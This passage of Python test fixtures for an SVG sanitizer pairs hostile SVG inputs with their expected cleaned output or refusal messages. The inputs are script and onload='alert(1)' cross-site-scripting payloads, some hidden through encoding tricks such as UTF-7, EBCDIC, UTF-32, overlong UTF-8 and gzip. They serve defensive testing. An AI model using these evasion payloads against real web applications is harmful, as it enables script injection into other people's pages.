        b'\xff\xfe\x00\x00<\x00\x00\x00s\x00\x00\x00v\x00\x00\x00g\x00\x00\x00 \x00\x00\x00x\x00\x00\x00m\x00\x00\x00l\x00\x00\x00n\x00\x00\x00s\x00\x00\x00=\x00\x00\x00"\x00\x00\x00h\x00\x00\x00t\x00\x00\x00t\x00\x00\x00p\x00\x00\x00:\x00\x00\x00/\x00\x00\x00/\x00\x00\x00w\x00\x00\x00w\x00\x00\x00w\x00\x00\x00.\x00\x00\x00w\x00\x00\x003\x00\x00\x00.\x00\x00\x00o\x00\x00\x00r\x00\x00\x00g\x00\x00\x00/\x00\x00\x002\x00\x00\x000\x00\x00\x000\x00\x00\x000\x00\x00\x00/\x00\x00\x00s\x00\x00\x00v\x00\x00\x00g\x00\x00\x00"\x00\x00\x00>\x00\x00\x00<\x00\x00\x00s\x00\x00\x00c\x00\x00\x00r\x00\x00\x00i\x00\x00\x00p\x00\x00\x00t\x00\x00\x00>\x00\x00\x00a\x00\x00\x00l\x00\x00\x00e\x00\x00\x00r\x00\x00\x00t\x00\x00\x00(\x00\x00\x001\x00\x00\x00)\x00\x00\x00<\x00\x00\x00/\x00\x00\x00s\x00\x00\x00c\x00\x00\x00r\x00\x00\x00i\x00\x00\x00p\x00\x00\x00t\x00\x00\x00>\x00\x00\x00<\x00\x00\x00/\x00\x00\x00s\x00\x00\x00v\x00\x00\x00g\x00\x00\x00>\x00\x00\x00',
        "refused: is not well-formed, so no browser shows it (line 1: not well-formed (invalid token))",
    ),
    "UTF-7": (
        b'<?xml version="1.0" encoding="utf-7"?>+ADw-svg onload=+ACI-alert(1)+ACI-/+AD4-',
        'refused: begins with <svg>, not with <svg xmlns="http://www.w3.org/2000/svg">',
    ),
    "UTF-7 inside": (
        '<?xml version="1.0" encoding="utf-7"?><svg xmlns="http://www.w3.org/2000/svg"><text>+ADw-script+AD4-</text></svg>',
        "refused: is not well-formed, so no browser shows it (line 1: mismatched tag)",
    ),
    "EBCDIC": (
        b"Lo\xa7\x94\x93@\xa5\x85\x99\xa2\x89\x96\x95~\x7f\xf1K\xf0\x7f@\x85\x95\x83\x96\x84\x89\x95\x87~\x7f\x83\x97\xf0\xf3\xf7\x7fonL\xa2\xa5\x87@\xa7\x94\x93\x95\xa2~\x7f\x88\xa3\xa3\x97zaa\xa6\xa6\xa6K\xa6\xf3K\x96\x99\x87a\xf2\xf0\xf0\xf0a\xa2\xa5\x87\x7f@\x96\x95\x93\x96\x81\x84~\x7f\x81\x93\x85\x99\xa3M\xf1]\x7fan",
        "refused: is not well-formed, so no browser shows it (line 1: not well-formed (invalid token))",
    ),
    "Latin 1": (
        b'<?xml version="1.0" encoding="iso-8859-1"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>\xe9</text></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><text>é</text></svg>',
    ),
    "Latin 1 that is not said": (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>\xe9</text></svg>',
        "refused: is not well-formed, so no browser shows it (line 1: not well-formed (invalid token))",
    ),
    "Cyrillic": (
        b'<?xml version="1.0" encoding="koi8-r"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>\xc4</text></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><text>д</text></svg>',
    ),
    "Shift JIS": (
        b'<?xml version="1.0" encoding="shift_jis"?><svg xmlns="http://www.w3.org/2000/svg"><text>\x93\xfa</text></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><text>日</text></svg>',
    ),
    "an encoding that no one knows": (
        '<?xml version="1.0" encoding="x-y"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "refused: is not in its encoding, x-y; save it as UTF-8",
    ),
    "UTF-8 that is too long": (
        b'<svg xmlns="http://www.w3.org/2000/svg">\xc0\xbcscript\xc0\xbe</svg>',
        "refused: is not well-formed, so no browser shows it (line 1: not well-formed (invalid token))",
    ),
    "a mark of UTF-8": (
        '\ufeff<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><g/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>',
    ),
    "a blank before the declaration": (
        ' <?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "refused: is not well-formed, so no browser shows it (line 1: xML or text declaration not at start of entity)",
    ),
    "XML 1.1": (
        '<?xml version="1.1"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        '<svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
    "packed": (
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03\xb3).KW\xa8\xc8\xcd\xc9+\xb6U\xca())\xb0\xd2\xd7///\xd7+7\xd6\xcb/J\xd77200\xd0\x07\xaaPR\xc8\xcf\xcb\xc9OL\xb1UJ\xccI-*\xd10\xd4T\xd2\xb7\x03\x00\xca\x84\xae\xf1;\x00\x00\x00",
        "refused: is not well-formed, so no browser shows it (line 1: not well-formed (invalid token))",
    ),
}
"""A whole file → what is published, or why nothing is."""


def hostile_pictures() -> dict[str, bytes]:
    """Return all of them as files."""
    inside = {name: f"{ROOT}{text}</svg>" for name, (text, _) in INSIDE.items()}
    found = inside | {name: text for name, (text, _) in WHOLE.items()}
    return {n: text.encode() if isinstance(text, str) else text for n, text in found.items()}
